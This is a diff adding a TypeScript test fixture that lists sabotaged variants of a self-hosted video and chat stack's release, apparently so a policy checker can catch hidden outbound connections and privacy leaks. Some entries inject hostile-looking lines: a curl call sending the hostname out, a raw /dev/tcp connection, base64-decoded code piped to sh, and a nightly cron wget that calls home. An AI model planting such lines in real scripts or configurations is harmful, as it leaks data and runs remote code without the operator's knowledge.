@@ -1,0 +1,325 @@
+import { appended, replaced, videoFile, withText, withFileOf } from "../../../policies/breaking.ts";
+import { ENTRY } from "../../../policies/configuration.ts";
+import type { Release } from "../../../render/release.ts";
+import type { BrokenTree } from "../tree.ts";
+
+const CHRONY = "/etc/chrony/chrony.conf";
+const RESOLVER = "/etc/systemd/resolved.conf.d/90-stillroom.conf";
+const CERTBOT = "/etc/stillroom/certbot.ini";
+const TITLE = "/usr/local/share/stillroom/video/title.html";
+
+function inVideo(release: Release, line: string): Release {
+  return appended(release, videoFile(release, "config.js"), line);
+}
+
+export const TREES: readonly BrokenTree[] = [
+  {
+    how: "a page's branding comes from a host in capital letters with a dot at its end",
+    apply: (release) => inVideo(release, 'config.dynamicBrandingUrl = "https://CDN.Example./brand.json";'),
+  },
+  {
+    how: "the practice's own name stands as a user before another host",
+    apply: (release) =>
+      inVideo(release, 'config.dynamicBrandingUrl = "https://meet.quiet-harbour.example@cdn.example/";'),
+  },
+  {
+    how: "backslashes stand for slashes before another host",
+    apply: (release) => inVideo(release, 'config.defaultLogoUrl = "\\\\\\\\cdn.example/logo.svg";'),
+  },
+  {
+    how: "a host is written as one number",
+    apply: (release) => inVideo(release, 'config.defaultLogoUrl = "https://3405803777/logo.svg";'),
+  },
+  {
+    how: "a host is an address of the second family",
+    apply: (release) => inVideo(release, 'config.defaultLogoUrl = "//[2001:db8:77::5]/logo.svg";'),
+  },
+  {
+    how: "a host has the practice's name at its beginning",
+    apply: (release) =>
+      inVideo(release, 'config.websocket = "wss://meet.quiet-harbour.example.evil.example/xmpp-websocket";'),
+  },
+  {
+    how: "a host has letters that look like the practice's own",
+    apply: (release) =>
+      inVideo(release, 'config.defaultLogoUrl = "https://meet.xn--quiet-hrbour-w4a.example/logo.svg";'),
+  },
+  {
+    how: "a STUN server of somebody else is offered beside ours",
+    apply: (release) => inVideo(release, 'config.p2p.stunServers = [{ urls: "stun:stun.example:3478" }];'),
+  },
+  {
+    how: "pictures of people are asked for elsewhere, by a word that counts as true",
+    apply: (release) => inVideo(release, 'config.disableThirdPartyRequests = "";'),
+  },
+  {
+    how: "statistics are gathered, by a number that counts as true",
+    apply: (release) => inVideo(release, "config.gatherStats = 1;"),
+  },
+  {
+    how: "the bridge asks a STUN server whose name is a late reference",
+    apply: (release) =>
+      appended(
+        release,
+        ENTRY.videobridge,
+        'ice4j.harvest.mapping.stun { addresses = ["stun.example:443"] }\nice4j.harvest.mapping.stun.addresses = ${ice4j.harvest.mapping.stun.addresses}',
+      ),
+  },
+  {
+    how: "the bridge looks up names that a browser sends it, by a word in quotes",
+    apply: (release) =>
+      replaced(release, ENTRY.videobridge, "resolve-remote-candidates = false", 'resolve-remote-candidates = "on"'),
+  },
+  {
+    how: "the bridge asks the cloud's metadata once more, further down",
+    apply: (release) =>
+      appended(release, ENTRY.videobridge, "ice4j { harvest { mapping { aws { enabled = true } } } }"),
+  },
+  {
+    how: "Jicofo's rooms belong to a domain of another server",
+    apply: (release) =>
+      appended(release, ENTRY.jicofo, 'jicofo.xmpp.client.conference-muc-jid = "conference.elsewhere.example"'),
+  },
+  {
+    how: "Prosody tells browsers of a relay of somebody else",
+    apply: (release) =>
+      replaced(
+        release,
+        ENTRY.prosody,
+        /host = "relay\.quiet-harbour\.example"; port = 5349/,
+        'host = "relay.example"; port = 5349',
+      ),
+  },
+  {
+    how: "coturn writes to a database on another machine",
+    apply: (release) => appended(release, ENTRY.coturn, 'redis-statsdb="ip=203.0.113.77 dbname=1"'),
+  },
+  {
+    how: "Synapse reports usage to an address of its own choice",
+    apply: (release) =>
+      appended(
+        replaced(release, ENTRY.synapse, '"report_stats": false', '"report_stats": yes'),
+        ENTRY.synapse,
+        "suppress_key_server_warning: true",
+      ),
+  },
+  {
+    how: "Synapse fetches what is linked, by a word in quotes",
+    apply: (release) => replaced(release, ENTRY.synapse, "url_preview_enabled: false", "url_preview_enabled: 'true'"),
+  },
+  {
+    how: "errors of Synapse go to a service that collects them",
+    apply: (release) => appended(release, ENTRY.synapse, "sentry:\n  dsn: https://key@errors.example/1"),
+  },
+  {
+    how: "files that people send are kept by another company",
+    apply: (release) =>
+      appended(
+        release,
+        ENTRY.synapse,
+        "media_storage_providers:\n  - module: s3_storage_provider.S3StorageProviderBackend\n    store_local: true\n    config: {bucket: files}",
+      ),
+  },
+  {
+    how: "push messages carry what was written, and are sent again",
+    apply: (release) =>
+      replaced(
+        replaced(release, ENTRY.synapse, "start_pushers: false", "start_pushers: true"),
+        ENTRY.synapse,
+        "include_content: false",
+        "include_content: true",
+      ),
+  },
+  {
+    how: "Element's maker gets its default back, since null became nothing",
+    apply: (release) => replaced(release, ENTRY.element, '"integrations_rest_url": null,', ""),
+  },
+  {
+    how: "Element's old name for calls is set and the new one taken out",
+    apply: (release) =>
+      replaced(
+        release,
+        ENTRY.element,
+        '"preferred_domain": "meet.quiet-harbour.example"',
+        '"preferredDomain": "meet.quiet-harbour.example"',
+      ),
+  },
+  {
+    how: "Element loads a module from its own folder",
+    apply: (release) =>
+      replaced(
+        release,
+        ENTRY.element,
+        '"disable_guests": true,',
+        '"disable_guests": true, "modules": ["/modules/m/index.js"],',
+      ),
+  },
+  {
+    how: "links to messages lead to the maker's site, since the line is left out",
+    apply: (release) => replaced(release, ENTRY.element, /\n {2}"permalink_prefix": "[^"]*",/, ""),
+  },
+  {
+    how: "Element shows maps of another company",
+    apply: (release) =>
+      replaced(release, ENTRY.element, '"UIFeature.locationSharing": false,', '"UIFeature.locationSharing": true,'),
+  },
+  {
+    how: "Element may fall back to a relay of its maker's",
+    apply: (release) => replaced(release, ENTRY.wellKnown, '"disable_fallback_ice": true', '"disable_fallback_ice": 1'),
+  },
+  {
+    how: "people sign in at another server, which the discovery names",
+    apply: (release) =>
+      replaced(
+        release,
+        ENTRY.wellKnown,
+        '"m.homeserver": {',
+        '"org.matrix.msc2965.authentication": { "issuer": "/" },\n  "m.homeserver": {',
+      ),
+  },
+  {
+    how: "the page's title brings a picture, its slashes hidden by entities",
+    apply: (release) =>
+      appended(release, TITLE, '<meta property="og:image" content="https:&#x2f;&#47;cdn.example/p.png" />'),
+  },
+  {
+    how: "the page's title leads on after some seconds, to another host",
+    apply: (release) => appended(release, TITLE, '<meta http-equiv="refresh" content="9;url=//cdn.example/">'),
+  },
+  {
+    how: "a style sheet imports another, its slashes hidden by escapes",
+    apply: (release) =>
+      appended(release, "/usr/local/share/stillroom/video/guard.css", "@import '\\2f\\2f cdn.example/a.css';"),
+  },
+  {
+    how: "the clock is asked for at a pool of strangers, in capital letters",
+    apply: (release) => appended(release, CHRONY, "POOL 2.pool.ntp.example iburst"),
+  },
+  {
+    how: "one more server gives the time, by an address",
+    apply: (release) => appended(release, CHRONY, "server 198.51.100.123 iburst"),
+  },
+  {
+    how: "names are asked for at a company's resolver",
+    apply: (release) => appended(release, RESOLVER, "DNS=9.9.9.9#dns.example"),
+  },
+  {
+    how: "names are asked for at a distribution's resolvers, when others fail, since a line is left out",
+    apply: (release) => replaced(release, RESOLVER, "FallbackDNS=\n", ""),
+  },
+  {
+    how: "neighbours are asked for names",
+    apply: (release) => replaced(release, RESOLVER, "LLMNR=no", "LLMNR=resolve"),
+  },
+  {
+    how: "certificates are asked for at an issuer that the stack file does not name",
+    apply: (release) => replaced(release, CERTBOT, /^server = .*$/m, "server = https://acme.example/directory"),
+  },
+  {
+    how: "certbot is told of another issuer on its command line",
+    apply: (release) =>
+      replaced(
+        release,
+        "/etc/systemd/system/certificates.service",
+        "--config /etc/stillroom/certbot.ini",
+        "--config /etc/stillroom/certbot.ini \\\n  --server https://acme.example/directory",
+      ),
+  },
+  {
+    how: "the issuer of certificates is told an address for mail",
+    apply: (release) => appended(release, CERTBOT, "email = ops@mail.example"),
+  },
+  {
+    how: "a script of ours tells somebody that it ran",
+    apply: (release) =>
+      appended(release, "/usr/local/lib/stillroom/messaging-database", "curl -fsS -m 10 ping.example/$(hostname)"),
+  },
+  {
+    how: "a script opens a connection without any program",
+    apply: (release) =>
+      appended(release, "/usr/local/lib/stillroom/keep-resolvers", "exec 3<>/dev/tcp/198.51.100.7/443"),
+  },
+  {
+    how: "a script runs what it decodes",
+    apply: (release) =>
+      appended(release, "/usr/local/lib/stillroom/certificate-state", "printf %s Y3VybCBleGFtcGxl | base64 -d | sh"),
+  },
+  {
+    how: "a unit fetches a file before it starts, on a second line",
+    apply: (release) =>
+      appended(
+        release,
+        "/etc/systemd/system/coturn.service.d/stillroom.conf",
+        "[Service]\nExecStartPre=/usr/bin/env \\\n  wget -q -O /run/list lists.example/peers",
+      ),
+  },
+  {
+    how: "a step of the delivery clones a repository",
+    apply: (release) => ({
+      ...release,
+      steps: [
+        ...release.steps,
+        {
+          name: "pages",
+          argv: ["git", "clone", "https://code.example/pages.git", "/srv/pages"],
+          after: "files" as const,
+        },
+      ],
+    }),
+  },
+  {
+    how: "the clock's account may ask a whole net",
+    apply: (release) => ({
+      ...release,
+      egress: release.egress.map((egress) =>
+        egress.account === "_chrony"
+          ? { ...egress, to: { kind: "addresses" as const, cidrs: ["198.51.100.0/24"] } }
+          : egress,
+      ),
+    }),
+  },
+  {
+    how: "the certificates' account may reach a second host",
+    apply: (release) => ({
+      ...release,
+      egress: release.egress.map((egress) =>
+        egress.account === "certificates" && egress.to.kind === "names"
+          ? { ...egress, to: { ...egress.to, names: [...egress.to.names, "hooks.example"] } }
+          : egress,
+      ),
+    }),
+  },
+  {
+    how: "packages may be fetched from names of our own choice",
+    apply: (release) => ({
+      ...release,
+      egress: release.egress.map((egress) =>
+        egress.account === "_apt" ? { ...egress, to: { kind: "names" as const, names: ["mirror.example"] } } : egress,
+      ),
+    }),
+  },
+  {
+    how: "a chain of the packet filter is filled with one name more",
+    apply: (release) => replaced(release, ENTRY.egress, '"ntp1.hetzner.de"', '"ntp1.hetzner.de","drop.example"'),
+  },
+  {
+    how: "a chain that stands twice in the list is filled with another's name",
+    apply: (release) =>
+      withText(release, ENTRY.egress, (text) =>
+        text.replace(
+          '{ "chains": [',
+          '{ "chains": [{"chain":"to-resolvers","to":{"kind":"names","names":["dns.example"]}},',
+        ),
+      ),
+    speaks: "understood",
+  },
+  {
+    how: "a new job of cron calls home each night",
+    apply: (release) =>
+      withFileOf(release, "/usr/local/lib/stillroom/keep-resolvers", (file) => ({
+        ...file,
+        path: "/etc/cron.daily/report",
+        text: "#!/bin/sh\nwget -q https://report.example/\n",
+      })),
+  },
+];
